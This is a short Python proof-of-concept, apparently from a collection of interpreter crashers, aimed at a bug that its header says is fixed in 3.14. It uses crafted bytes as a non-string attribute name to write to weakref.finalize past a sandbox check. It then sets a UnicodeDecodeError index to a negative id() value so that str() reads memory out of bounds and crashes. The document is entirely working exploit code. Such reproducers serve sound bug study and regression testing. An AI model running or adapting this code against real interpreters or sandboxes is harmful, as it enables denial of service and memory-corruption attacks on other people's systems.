# technique: a class that the sandbox lets only its own module write to is written to by a name that is no string: the refusal takes our bytes for a string
# mended: 3.14
# goal: crash
# source: own analysis: %U in the sandbox' own message.  A plain interpreter has no such message; there str() of an error does the like
import struct
import weakref

name = struct.pack('<II8Q', 1 << 2, 0, *[0x4141] * 8) + bytes(1 << 12)
try:
    type.__setattr__(weakref.finalize, name, 1)
except TypeError:
    pass
e = UnicodeDecodeError('u', b'x', 0, 1, 'r')
e.start = -id(e.object)
e.end = e.start + 1
str(e)
